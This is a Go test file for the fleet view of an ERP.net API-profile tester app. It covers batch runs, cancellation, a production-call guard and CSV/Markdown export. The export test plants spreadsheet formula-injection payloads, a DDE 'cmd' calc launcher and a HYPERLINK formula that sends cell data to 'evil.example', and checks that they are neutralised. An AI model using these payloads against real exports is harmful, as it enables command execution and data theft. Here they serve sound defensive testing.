package ui

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/widget"

	"trustedapp-tester/check"
	"trustedapp-tester/internal/fyneloop"
	"trustedapp-tester/internal/hostile"
	"trustedapp-tester/profiles"
)

// The fleet view's tests against ERP.net look-alike instances with the real engine.

// liveFleet is the app over profiles on ERP.net look-alikes, with the real engine:
// hosts instances with perHost profiles each ("hHH-pPP").
func liveFleet(t testing.TB, hosts, perHost int, log *fleetLog) (*env, []*hostile.Instance) {
	t.Helper()
	var ins []*hostile.Instance
	var seed []profiles.Profile
	for h := 0; h < hosts; h++ {
		in := hostile.New(t, fmt.Sprintf("secret-of-host-%d", h))
		ins = append(ins, in)
		for i := 0; i < perHost; i++ {
			seed = append(seed, profiles.Profile{Name: fmt.Sprintf("h%02d-p%02d", h, i), InstanceURL: in.URL, ClientID: hostile.ClientID,
				AuthMethod: profiles.AuthPost, TimeoutSeconds: 10, Calls: []profiles.APICall{{Method: "GET", Path: "/api/domain/odata/Crm_Sales_Customers?$top=5"}}})
		}
	}
	e := newEnv(t, Deps{History: log, Now: time.Now, Run: check.Run}, seed...)
	for h, in := range ins {
		for i := 0; i < perHost; i++ {
			if err := e.secrets.Set(fmt.Sprintf("h%02d-p%02d", h, i), in.Secret); err != nil {
				t.Fatal(err)
			}
		}
	}
	return e, ins
}

// Test all shown runs every profile shown by check --all's rules against real
// (look-alike) instances; the rows fill in, History gets every run, and the selected
// profile's run view keeps the run it shows until the profile is opened again.
func TestFleetTestAll(t *testing.T) {
	log := &fleetLog{}
	e, ins := liveFleet(t, 3, 3, log)
	u := e.u
	u.selectProfile("h00-p00")
	u.StartRun()
	u.Wait()
	shown := u.desk.RunOf("h00-p00")
	if shown == nil || !u.run.shows(shown) {
		t.Fatal("the run view does not show the profile's run")
	}
	u.Fleet()
	u.Wait()
	s := u.fleet
	s.primary() // Ctrl+Enter: test all shown
	u.Wait()
	for _, in := range ins {
		if in.MaxInFlight() != 1 {
			t.Errorf("%s served %d requests at once", in.URL, in.MaxInFlight())
		}
	}
	for _, l := range s.shown {
		if l.cells[colVerdict] != "Passed" || l.row.Last == nil || l.cells[colWhen] != "just now" {
			t.Errorf("%s: %q", l.row.Profile.Name, l.cells)
		}
	}
	if s.test != nil || s.progressRow.Visible() || !strings.Contains(s.counts.Text, "Fleet test done: 9 passed, 0 with warnings, 0 failed.") || s.testAll.Disabled() {
		t.Errorf("after the test: counts %q, progress shown %v", s.counts.Text, s.progressRow.Visible())
	}
	if n := len(log.runs); n != 10 { // the single run and the nine of the fleet
		t.Errorf("History has %d runs", n)
	}
	// The run view was never touched: it still shows the single run.
	if !u.run.shows(shown) || u.desk.RunOf("h00-p00") != shown {
		t.Error("the fleet test changed the selected profile's run view")
	}
	// Opening the profile from the fleet view shows its fleet run, with its evidence.
	s.table.Select(widget.TableCellID{Row: 0, Col: colName})
	s.openRow(0)
	if r := u.desk.RunOf("h00-p00"); r == shown || r == nil || !u.run.shows(r) || len(r.Report.Steps) == 0 {
		t.Errorf("opened from the fleet view: %+v", r)
	}
}

// With "token only" on (the default), Production profiles make no API call; off, the
// app asks first, and Cancel starts nothing.
func TestFleetProductionTokenOnly(t *testing.T) {
	e, _ := liveFleet(t, 2, 1, &fleetLog{})
	u := e.u
	p, _ := e.store.Get("h00-p00")
	p.Environment = profiles.EnvProduction
	if err := e.store.Update(p.Name, p); err != nil {
		t.Fatal(err)
	}
	u.Reload("")
	u.Wait()
	u.Fleet()
	u.Wait()
	s := u.fleet
	if !s.tokenOnly.Checked {
		t.Fatal("token only is not the default")
	}
	s.testShown()
	u.Wait()
	if l := shownLine(t, s, "h00-p00"); l.cells[colLicence] != "None (no API call)" || shownLine(t, s, "h01-p00").cells[colLicence] == "None (no API call)" {
		t.Errorf("token only: %q / %q", l.cells[colLicence], shownLine(t, s, "h01-p00").cells[colLicence])
	}
	s.tokenOnly.SetChecked(false)
	s.testShown()
	d := topDialog(u)
	if !strings.Contains(d, "1 profile tagged Production will make its API calls") || !strings.Contains(d, "h00-p00") {
		t.Fatalf("no question before calls on production: %q", d)
	}
	test.Tap(findButton(t, u.win.Canvas().Overlays().Top(), "Cancel"))
	u.Wait()
	if s.test != nil || u.desk.FleetTesting() != nil {
		t.Error("Cancel started a test")
	}
	s.testShown()
	test.Tap(findButton(t, u.win.Canvas().Overlays().Top(), "Make the calls"))
	u.Wait()
	if l := shownLine(t, s, "h00-p00"); l.cells[colLicence] == "None (no API call)" {
		t.Errorf("calls on production: %q", l.cells[colLicence])
	}
}

// Esc cancels a fleet test (the tests in flight end cancelled, the others are not
// tested), and each row says so; a second Esc closes the view.
func TestFleetCancelWithEsc(t *testing.T) {
	e, ins := liveFleet(t, 2, 2, &fleetLog{})
	u := e.u
	started := make(chan bool, 4)
	for _, in := range ins {
		in.Ver = func(w http.ResponseWriter, r *http.Request) { started <- true; <-r.Context().Done() }
	}
	u.Fleet()
	u.Wait()
	s := u.fleet
	loop := mainLoop(t)
	s.testShown()
	<-started
	loop.Pump()
	if s.test == nil || !s.progressRow.Visible() || !s.testAll.Disabled() || !strings.Contains(s.progressMsg.Text, "under way") {
		t.Fatalf("while testing: op %v, progress shown %v: %q", s.test, s.progressRow.Visible(), s.progressMsg.Text)
	}
	u.escape()
	settleLoop(u, loop)
	if s.test != nil || !strings.HasPrefix(s.counts.Text, "Fleet test cancelled: 0 passed, 0 with warnings, 0 failed, 4 not tested.") || !u.showing(s.content) {
		t.Errorf("after Esc: %q, shown %v", s.counts.Text, u.showing(s.content))
	}
	for _, l := range s.shown {
		if l.cells[colVerdict] != "Not tested" || !strings.Contains(l.cells[colFailure], "ancelled") {
			t.Errorf("%s: %q / %q", l.row.Profile.Name, l.cells[colVerdict], l.cells[colFailure])
		}
	}
	u.escape()
	if u.showing(s.content) {
		t.Error("the second Esc did not close the view")
	}
}

// A fleet test goes on while the run view is shown, and says how it ended in the
// status line; History that cannot be written is said too.
func TestFleetGoesOnBehindTheRunView(t *testing.T) {
	log := &fleetLog{failOn: true}
	e, ins := liveFleet(t, 1, 2, log)
	u := e.u
	release := make(chan struct{})
	ins[0].Ver = func(w http.ResponseWriter, r *http.Request) { <-release; fmt.Fprint(w, "26.2.0.76") }
	u.Fleet()
	u.Wait()
	loop := mainLoop(t)
	u.fleet.testShown()
	u.fleet.openRow(1)
	if !u.showing(u.run.content) || u.fleet.test == nil {
		t.Fatal("the test did not go on behind the run view")
	}
	close(release)
	settleLoop(u, loop)
	if !strings.HasPrefix(u.status.Text, "Fleet test done: 2 passed") || !strings.Contains(u.status.Text, "History could not be written") || !strings.Contains(u.status.Text, "Ctrl+Shift+F") {
		t.Errorf("status %q", u.status.Text)
	}
}

// The export holds the table as shown; a hostile profile name and a hostile System
// User (server text) cannot become spreadsheet formulas; the file is the owner's only.
func TestFleetExportCSVAndMarkdown(t *testing.T) {
	e, ins := liveFleet(t, 1, 1, &fleetLog{})
	u := e.u
	ins[0].Claims = func(c map[string]any) { c["client_system_user"] = `=HYPERLINK("http://evil.example/?"&A1,"Click me")` }
	evil := `=cmd|' /C calc'!A0`
	p, _ := e.store.Get("h00-p00")
	p.Tags = []string{"@SUM(A1)"}
	if err := e.store.Update(p.Name, p); err != nil {
		t.Fatal(err)
	}
	if err := profiles.RenameProfile(e.store, e.keychain, p.Name, evil); err != nil {
		t.Fatal(err)
	}
	u.Reload("")
	u.Wait()
	u.Fleet()
	u.Wait()
	s := u.fleet
	s.testShown()
	u.Wait()
	if l := shownLine(t, s, evil); l.row.Last == nil || !strings.HasPrefix(l.cells[colUser], "=HYPERLINK") {
		t.Fatalf("the hostile System User did not arrive: %q", l.cells)
	}
	dir := t.TempDir()
	for _, f := range []struct {
		name     string
		markdown bool
	}{{"fleet.csv", false}, {"fleet.md", true}} {
		path := filepath.Join(dir, f.name)
		u.desk.ExportFleet(fileWriter(t, path), s.fleetTable(), f.markdown, written(u, "Could not export", func(p string) string { return "saved " + p }))
		u.Wait()
		raw, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		out := string(raw)
		if f.markdown {
			if !strings.Contains(out, "| Name | Environment | Last verdict |") || strings.Contains(out, "](") || strings.Contains(out, "http://") {
				t.Errorf("markdown:\n%s", out)
			}
		} else {
			for _, bad := range []string{`"=cmd`, `"=HYPERLINK`, `"@SUM`} {
				if strings.Contains(out, bad) {
					t.Errorf("%s starts a cell:\n%s", bad, out)
				}
			}
			for _, good := range []string{`"'=cmd|' /C calc'!A0"`, `"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"`, `"'@SUM(A1)"`, `"Name","Environment","Last verdict"`} {
				if !strings.Contains(out, good) {
					t.Errorf("CSV lacks %s:\n%s", good, out)
				}
			}
			if strings.Contains(out, ins[0].Secret) {
				t.Error("the secret went into the export")
			}
		}
		if fi, err := os.Stat(path); runtime.GOOS != "windows" && (err != nil || fi.Mode().Perm() != 0o600) {
			t.Errorf("%s: mode %v", f.name, fi.Mode())
		}
	}
	// The Export… button asks which format, then for a file.
	test.Tap(s.exportBtn)
	if d := topDialog(u); !strings.Contains(d, "Export the fleet table") {
		t.Errorf("export dialog %q", d)
	}
}

// mainLoop queues fyne.Do for the test goroutine, as a real driver runs it on its main
// loop, for a test that acts while a fleet test runs (Fyne's test driver would run the
// results on the desk's goroutines, in parallel with the test).
func mainLoop(t *testing.T) *fyneloop.Loop { return fyneloop.Install(t, fyne.CurrentApp()) }

// settleLoop waits for the desk's goroutines and runs what they hand to the UI
// goroutine, until nothing is left.
func settleLoop(u *UI, loop *fyneloop.Loop) {
	for {
		u.Wait()
		if !loop.Pump() {
			return
		}
	}
}
